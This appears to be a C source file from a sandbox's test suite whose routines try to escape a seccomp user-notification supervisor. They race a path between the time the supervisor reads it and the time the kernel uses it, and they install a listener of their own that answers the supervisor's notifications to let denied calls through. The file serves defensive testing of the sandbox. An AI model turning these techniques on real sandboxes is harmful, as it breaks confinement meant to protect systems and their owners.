// Attacks on user notification: racing the supervisor's look at memory, and answering in its place.
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>

#include "attack.h"

static char flipping[2][256];
static _Alignas(64) char shown[256];
static atomic_bool finished;

enum { kRaceSeconds = 30 };

static struct timespec now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time;
}

static long seconds_since(struct timespec start) {
  return now().tv_sec - start.tv_sec;
}

static void* flip(void* data) {
  (void)data;
  // Both names have one length, so that every mixture of the two is either of them or none at all.
  for (unsigned turn = 0; !atomic_load(&finished); ++turn) memcpy(shown, flipping[turn & 1], sizeof shown);
  return NULL;
}

// A supervisor that reads a path and lets the kernel continue decides on one text, the kernel acts on
// another.
static void race(int argc, char** argv) {
  if (argc < 2 || strlen(argv[0]) != strlen(argv[1]))
    broken("usage: notify-race ALLOWED SECRET (of one length)");
  snprintf(flipping[0], sizeof flipping[0], "%s", argv[0]);
  snprintf(flipping[1], sizeof flipping[1], "%s", argv[1]);
  memcpy(shown, flipping[0], sizeof shown);
  pthread_t thread;
  if (pthread_create(&thread, NULL, flip, NULL) != 0) broken("pthread_create");
  char text[256];
  int opened = 0, attempt = 0;
  // As long as it takes: on a machine with other work the thread that flips may not run for whole seconds.
  for (struct timespec start = now(); seconds_since(start) < kRaceSeconds; ++attempt) {
    int fd = open(shown, O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    ++opened;
    if (fd_has_canary(fd, text, sizeof text)) won("attempt %d read %s", attempt, text);
    close(fd);
  }
  atomic_store(&finished, true);
  pthread_join(thread, NULL);
  errno = 0;
  refused("%d attempts, %d of them opened the allowed file", attempt, opened);
}

// The same against calls that Sandstone denies by notification: the memory that they point to changes all the
// time, and not one of them may ever be carried out.
static void denied_race(int argc, char** argv) {
  (void)argc, (void)argv;
  snprintf(flipping[0], sizeof flipping[0], "/tmp/aaaa");
  snprintf(flipping[1], sizeof flipping[1], "/proc/aa");
  memcpy(shown, flipping[0], sizeof shown);
  pthread_t thread;
  if (pthread_create(&thread, NULL, flip, NULL) != 0) broken("pthread_create");
  for (int attempt = 0; attempt < 2000; ++attempt) {
    if (mount(shown, "/tmp", shown, MS_BIND, shown) == 0) won("mount went through");
    if (chroot(shown) == 0) won("chroot went through");
    if (syscall(SYS_open_tree, AT_FDCWD, shown, 1) >= 0) won("open_tree went through");
    if (umount2(shown, 0) == 0) won("umount2 went through");
  }
  atomic_store(&finished, true);
  pthread_join(thread, NULL);
  refused("8000 denied calls");
}

static int install_listener(int number) {
  struct sock_filter code[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (uint32_t)number, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog program = {sizeof code / sizeof code[0], code};
  return (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
}

// Of two filters that both ask for a notification the younger one is heard: whoever may install a listener
// answers the notification that was meant for the supervisor, and lets the call continue.
static void own_listener(int argc, char** argv) {
  (void)argc, (void)argv;
  prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
  int listener = install_listener(SYS_unshare);
  if (listener < 0) refused("a listener of our own");
  pid_t pid = fork();
  if (pid == 0) _exit(unshare(CLONE_NEWUSER) == 0 ? kWon : kRefused);
  struct seccomp_notif request = {0};
  struct pollfd ready = {listener, POLLIN, 0};
  if (poll(&ready, 1, 2000) == 1 && ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &request) == 0) {
    struct seccomp_notif_resp answer = {.id = request.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
    ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
  }
  int status = 0;
  waitpid(pid, &status, 0);
  if (WIFEXITED(status) && WEXITSTATUS(status) == kWon) won("our own listener let the denied call continue");
  errno = 0;
  refused("our listener was not asked");
}

// Whether a listener can be had at all: the first step of the attack above.
static void any_listener(int argc, char** argv) {
  (void)argc, (void)argv;
  prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
  if (install_listener(SYS_unshare) >= 0) won("a listener of our own was installed");
  refused("a listener of our own");
}

const Attack kSeccompAttacks[] = {
    {"notify-race", race},
    {"denied-race", denied_race},
    {"own-listener", own_listener},
    {"any-listener", any_listener},
    {NULL, NULL},
};
